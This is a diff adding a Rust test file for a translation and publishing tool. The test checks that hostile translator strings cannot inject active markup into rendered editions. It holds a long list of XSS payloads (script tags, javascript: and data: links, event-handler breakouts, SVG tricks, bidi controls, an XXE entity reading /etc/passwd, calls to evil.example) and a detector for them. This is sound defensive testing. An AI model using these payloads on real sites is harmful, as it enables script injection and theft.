@@ -1,0 +1,450 @@
+//! Translations are untrusted: no text of a translator brings markup, addresses or letters that act into any edition.
+//!
+//! Each attack is the text of every message of an article of its own; all articles are rendered in all formats at once. What
+//! is looked for is what a browser would act on, not how the program escapes.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fmt::Write;
+
+use tolmach::edition;
+use tolmach::markdown;
+
+use crate::sandbox::Sandbox;
+
+const ATTACKS: &[&str] = &[
+    // Tags.
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<script\n>alert(1)</script\n>",
+    "<script/src=data:,alert(1)>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<iframe src=https://evil.example></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=https://evil.example></object><embed src=x>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<form action=https://evil.example><input name=password><button>OK</button></form>",
+    "<textarea><title><plaintext>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<details open ontoggle=alert(1)>x",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=https://evil.example autoplay>",
+    "<x-custom onfocus=alert(1) tabindex=0 autofocus>",
+    "<!--><script>alert(1)</script>",
+    "<!-- --!><script>alert(1)</script>",
+    "<?php echo 1 ?><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<!DOCTYPE html><script>alert(1)</script>",
+    // Handlers on the tags that the English has.
+    "<b onclick=alert(1)>x</b>",
+    "<b/onmouseover=alert(1)>x</b>",
+    "<b style='background:url(https://evil.example)'>x</b>",
+    "<b\nonfocus\n=\nalert(1)\ntabindex=0>x</b>",
+    "<b title='>' onclick=alert(1)>x</b>",
+    "<b>x</b><b>y</b><b>z</b>",
+    "</b></p></article></main></body></html>",
+    "<b <script>alert(1)</script>",
+    // Schemes.
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](\u{1}javascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](java&#115;cript&#x3a;alert(1))",
+    "[x](java&Tab;script:alert(1))",
+    "[x](javascript%3Aalert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    "<javascript:alert(1)>",
+    "<JAVASCRIPT:alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[![x](x.png)](javascript:alert(1))",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "[safe]: javascript:alert(1) 'x'",
+    // Attribute break-outs.
+    "\" onclick=\"alert(1)",
+    "' onclick='alert(1)",
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "`onerror=alert(1)`",
+    "[x](https://a.example/\"onmouseover=\"alert(1))",
+    "[x](https://a.example 'y\" onclick=\"alert(1)')",
+    "[x](<https://a.example/\" onclick=\"alert(1)>)",
+    "![\" onerror=\"alert(1)](x.png)",
+    "![x](x.png '\" onerror=\"alert(1)')",
+    "x {#y\" onclick=alert(1)}",
+    "x {onclick=alert(1) style=color:red}",
+    "x {.a\"onclick=alert(1) #main}",
+    // Out of scripts, styles and comments.
+    "</script><script>alert(1)</script>",
+    "</ScRiPt ><!-- <script>",
+    "\\u003c/script\\u003e<!--<script>",
+    "\u{2028}alert(1)\u{2029}",
+    "</style><script>alert(1)</script>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "}*{background:url(https://evil.example)}",
+    "--><script>alert(1)</script><!--",
+    "]]><x xmlns='https://evil.example'/>",
+    "</title><script>alert(1)</script>",
+    "</textarea></noscript></title><script>alert(1)</script>",
+    // SVG and MathML.
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math href=javascript:alert(1)>x</math>",
+    // Entities.
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;",
+    "&amp;lt;script&amp;gt;",
+    "&quot; onclick=&quot;alert(1)",
+    "&#0;&#1;&#xFFFF;&#x110000;&evil;",
+    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    // Letters that act.
+    "safe \u{202E}gnp.exe",
+    "\u{202D}x\u{202A}y",
+    "x\u{2067}y",
+    "x&#x202E;y&#8238;z&#x2067;",
+    "\u{2069}\u{2069}\u{202C}x\u{2066}",
+    "x\u{0}y\u{8}z\u{1B}[31m\u{7F}\u{9B}31m",
+    "\u{FEFF}x\u{FFFE}\u{FFFF}",
+    // Markdown.
+    "x\n\n<script>alert(1)</script>",
+    "x\n---\ntitle: y\n---\n",
+    "# x\n\n```\ny",
+    "> x\n\n    <script>alert(1)</script>",
+    "~~~html\n<script>alert(1)</script>",
+    "`<script>`<script>alert(1)</script>`",
+    "\\<script>alert(1)\\</script>",
+    "**<script>**alert(1)**</script>**",
+    "[^1]: <script>alert(1)</script>",
+    "| a | <img src=x onerror=alert(1)> |\n|---|---|",
+    "* [ ] <input autofocus onfocus=alert(1)>",
+    "<https://a.example/\" onclick=alert(1)>",
+    "[x](https://a.example/<script>alert(1)</script>)",
+    "{{ title|safe }}{% include '/etc/passwd' %}",
+    "${7*7}<%= 7*7 %>#{7*7}",
+];
+
+const ARTICLE: &str = "---\ntitle: News\ndescription: Words\n---\n\nOne *two* [three](https://safe.example/) <b>four</b>.\n\n## Heading\n\n- item ![Picture](x.png)\n\n| a | b |\n| --- | --- |\n| cell | c |\n\n<div title=\"x\">\nAuthor's own.\n</div>\n";
+
+/// Returns a text as a Fluent string literal, which takes every letter as it is.
+fn literal(text: &str) -> String {
+    let mut out = String::from("{ \"");
+    for c in text.chars() {
+        match c {
+            '"' | '\\' => write!(out, "\\{c}").unwrap(),
+            c if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{FEFF}' | '\u{FFFE}' | '\u{FFFF}') => {
+                write!(out, "\\u{:04X}", c as u32).unwrap();
+            }
+            c => out.push(c),
+        }
+    }
+    out + "\" }"
+}
+
+/// Replaces every translation of a locale by the attack.
+fn translations(catalogue: &str, attack: &str) -> String {
+    let ids = catalogue.lines().filter(|line| line.starts_with(|c: char| c.is_ascii_alphabetic()));
+    ids.filter_map(|line| line.split_once(" =")).fold(String::new(), |mut file, (id, _)| {
+        writeln!(file, "{id} = {}\n", literal(attack)).unwrap();
+        file
+    })
+}
+
+/// Elements that a page may hold without harm, whoever wrote them.
+const ELEMENTS: &[&str] = &[
+    "a",
+    "article",
+    "b",
+    "blockquote",
+    "body",
+    "br",
+    "cite",
+    "code",
+    "dd",
+    "del",
+    "div",
+    "dl",
+    "dt",
+    "em",
+    "footer",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "head",
+    "header",
+    "hr",
+    "html",
+    "i",
+    "img",
+    "input",
+    "ins",
+    "label",
+    "li",
+    "link",
+    "main",
+    "mark",
+    "meta",
+    "nav",
+    "ol",
+    "p",
+    "pre",
+    "s",
+    "script",
+    "section",
+    "small",
+    "span",
+    "strong",
+    "style",
+    "sub",
+    "sup",
+    "svg",
+    "rect",
+    "text",
+    "tspan",
+    "table",
+    "tbody",
+    "td",
+    "th",
+    "thead",
+    "time",
+    "title",
+    "tr",
+    "u",
+    "ul",
+    "caption",
+    "col",
+    "colgroup",
+    "aside",
+    "bdi",
+    "tg-spoiler",
+    "details",
+    "summary",
+    "dfn",
+    "abbr",
+    "q",
+    "figure",
+    "figcaption",
+];
+
+/// Returns what a browser might act on in a text of HTML.
+fn dangers(html: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut rest = html;
+    let mut scripts = 0;
+    while let Some(at) = rest.find('<') {
+        rest = &rest[at + 1..];
+        if let Some(comment) = rest.strip_prefix("!--") {
+            found.push("a comment".to_string());
+            rest = comment;
+            continue;
+        }
+        let closing = rest.strip_prefix('/');
+        let inner = closing.unwrap_or(rest);
+        if !inner.starts_with(|c: char| c.is_ascii_alphabetic()) {
+            if rest.starts_with(['!', '?']) && !rest.starts_with("!DOCTYPE html>\n<html") {
+                found.push(format!("a declaration: {:.20}", rest));
+            }
+            continue;
+        }
+        let name: String = inner.chars().take_while(|c| !c.is_whitespace() && !matches!(c, '/' | '>')).collect();
+        let name = name.to_ascii_lowercase();
+        if !ELEMENTS.contains(&name.as_str()) {
+            found.push(format!("<{name}>"));
+        }
+        let (attributes, after) = attributes(&inner[name.len()..]);
+        for (attribute, value) in &attributes {
+            if attribute.starts_with("on") || matches!(attribute.as_str(), "style" | "srcdoc" | "action" | "formaction")
+            {
+                found.push(format!("{attribute} of <{name}>"));
+            }
+            let is_address = matches!(attribute.as_str(), "href" | "src" | "data" | "poster" | "xlink:href");
+            let is_picture = name == "img" && value.starts_with("data:image/");
+            if is_address && !is_picture && markdown::forbidden_scheme(value).is_some() {
+                found.push(format!("{attribute}={value} of <{name}>"));
+            }
+            if name == "meta" && attribute == "http-equiv" && value != "Content-Security-Policy" {
+                found.push(format!("http-equiv={value}"));
+            }
+            if value.contains("evil.example")
+                && name != "a"
+                && name != "meta"
+                && attribute != "alt"
+                && attribute != "title"
+                && attribute != "href"
+            {
+                found.push(format!("{attribute}={value} of <{name}>"));
+            }
+        }
+        rest = after;
+        if closing.is_none() && matches!(name.as_str(), "script" | "style") {
+            let end = rest.to_ascii_lowercase().find(&format!("</{name}")).unwrap_or(rest.len());
+            let is_data = attributes.iter().any(|(name, value)| name == "type" && value == "application/ld+json");
+            scripts += 1;
+            if name == "script" && !(is_data && serde_json::from_str::<serde_json::Value>(&rest[..end]).is_ok()) {
+                found.push("a script".to_string());
+            }
+            if scripts > 2 || name == "style" && rest[..end].contains("evil.example") {
+                found.push(format!("one more <{name}>"));
+            }
+            rest = &rest[end..];
+        }
+    }
+    found
+}
+
+/// Splits the inside of a tag into its attributes, values decoded (HTML §13.2.5.32 on), and what is behind the tag.
+fn attributes(mut rest: &str) -> (Vec<(String, String)>, &str) {
+    let mut attributes = Vec::new();
+    loop {
+        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
+        if rest.is_empty() || rest.starts_with('>') {
+            return (attributes, rest.strip_prefix('>').unwrap_or(rest));
+        }
+        let end = rest
+            .char_indices()
+            .find(|(at, c)| c.is_whitespace() || matches!(c, '/' | '>') || *c == '=' && *at > 0)
+            .map_or(rest.len(), |(at, _)| at);
+        let name = rest[..end].to_ascii_lowercase();
+        rest = rest[end..].trim_start();
+        let mut value = "";
+        if let Some(behind) = rest.strip_prefix('=') {
+            rest = behind.trim_start();
+            let end = match rest.chars().next() {
+                Some(quote @ ('"' | '\'')) => {
+                    rest = &rest[1..];
+                    rest.find(quote).unwrap_or(rest.len())
+                }
+                _ => rest.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(rest.len()),
+            };
+            value = &rest[..end];
+            rest = rest[end..].trim_start_matches(['"', '\'']);
+        }
+        attributes.push((name, markdown::decoded(value)));
+    }
+}
+
+/// Returns what is dangerous about letters in a text of any format.
+fn acting_letters(text: &str) -> Vec<String> {
+    let acts = |c: &char| {
+        matches!(c, '\u{202D}' | '\u{202E}' | '\u{FFFE}' | '\u{FFFF}')
+            || c.is_control() && !matches!(c, '\n' | '\t' | '\r')
+    };
+    let mut found: Vec<String> = text.chars().filter(acts).map(|c| format!("{c:?}")).collect();
+    let count = |wanted: &[char]| text.matches(wanted).count();
+    if count(&['\u{2066}', '\u{2067}', '\u{2068}']) != count(&['\u{2069}'])
+        || count(&['\u{202A}', '\u{202B}']) != count(&['\u{202C}'])
+    {
+        found.push("a direction that stays open".to_string());
+    }
+    found
+}
+
+fn dangers_in(path: &str, text: &str) -> Vec<String> {
+    let mut found = acting_letters(text);
+    match path.rsplit('.').next() {
+        // Plain text has no markup.
+        Some("txt") if !path.contains("telegram") => {}
+        Some("json") => {}
+        Some("xml") => match roxmltree::Document::parse(text) {
+            Ok(document) => found.extend(
+                document
+                    .descendants()
+                    .filter(|node| node.tag_name().namespace().is_some_and(|name| name.contains("evil")))
+                    .map(|node| format!("<{}>", node.tag_name().name())),
+            ),
+            Err(error) => found.push(error.to_string()),
+        },
+        Some("md") => {
+            let body = text.splitn(3, "---\n").nth(2).unwrap_or(text);
+            for block in markdown::parse(body).expect("it can be read").blocks {
+                let inline = markdown::inline_text(body, &block);
+                let marks = match block.kind {
+                    markdown::BlockKind::Html => markdown::Inventory::of_html(&inline),
+                    markdown::BlockKind::Code => continue,
+                    _ => markdown::inventory(&inline, &markdown::Definitions::new()),
+                };
+                let tags = marks.tags.iter().map(|(tag, _)| tag.as_str());
+                found.extend(
+                    tags.filter(|tag| !matches!(*tag, "<b>" | "</b>" | "<div title=\"x\">" | "</div>"))
+                        .map(str::to_string),
+                );
+                let targets = marks.links.iter().chain(&marks.images).map(|(target, _)| target);
+                found.extend(targets.filter(|target| markdown::forbidden_scheme(target).is_some()).cloned());
+            }
+        }
+        _ => found.extend(dangers(text)),
+    }
+    found
+}
+
+#[test]
+fn no_translation_acts_in_an_edition() {
+    let formats = edition::names().iter().map(|name| format!("{name:?}")).collect::<Vec<_>>().join(", ");
+    let sandbox = Sandbox::new([(
+        "tolmach.toml",
+        format!(
+            "[editions]\nbase-url = \"https://articles.example\"\nformats = [{formats}]\n[locales.ru]\non-missing = \"source\"\n[locales.ar]\non-missing = \"source\"\n"
+        )
+        .as_str(),
+    )]);
+    for number in 0..ATTACKS.len() {
+        sandbox.write(&format!("source/a{number}.md"), ARTICLE);
+    }
+    sandbox.tolmach(&["segment"]);
+    let mut titles = BTreeSet::new();
+    for (number, attack) in ATTACKS.iter().enumerate() {
+        let catalogue = sandbox.text(&format!("locales/en/a{number}.ftl"));
+        for locale in ["ru", "ar"] {
+            sandbox.write(&format!("locales/{locale}/a{number}.ftl"), &translations(&catalogue, attack));
+        }
+        titles.insert(*attack);
+    }
+    assert!(titles.len() >= 60, "{} attacks", titles.len());
+    let output = sandbox.tolmach(&["render"]);
+    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
+
+    let mut failures = Vec::new();
+    let mut seen: BTreeMap<String, usize> = BTreeMap::new();
+    for (path, bytes) in sandbox.files() {
+        let Some(below) = path.strip_prefix("editions/") else { continue };
+        *seen.entry(below.split('/').next().unwrap_or_default().to_string()).or_default() += 1;
+        // A book is a zip: what is inside is XHTML made like the page, checked by its own tests.
+        let Ok(text) = String::from_utf8(bytes) else { continue };
+        let found = dangers_in(&path, &text);
+        if !found.is_empty() {
+            let number: Option<usize> =
+                path.rsplit('/').next().and_then(|name| name.strip_prefix('a')?.split('.').next()?.parse().ok());
+            let attack = number.and_then(|number| ATTACKS.get(number)).copied().unwrap_or_default();
+            failures.push(format!("{path}: {attack:?} brings {found:?}"));
+        }
+    }
+    for name in edition::names() {
+        let expected = ATTACKS.len() * 2;
+        assert!(seen.get(name).is_some_and(|count| *count >= expected), "{name}: {seen:?}, expected {expected}");
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn the_search_for_dangers_finds_what_is_not_escaped() {
+    let markup = ATTACKS.iter().filter(|attack| attack.contains("<s") || attack.contains("on") && attack.contains('<'));
+    let (found, missed): (Vec<&&str>, Vec<&&str>) =
+        markup.partition(|attack| !dangers_in("page.html", &format!("<p>{attack}</p>")).is_empty());
+    assert!(found.len() >= 50 && missed.len() <= 8, "{} found, missed: {missed:#?}", found.len());
+    assert_eq!(dangers("<p title=\"<script>\">1 < 2 &lt;script></p>"), Vec::<String>::new());
+}
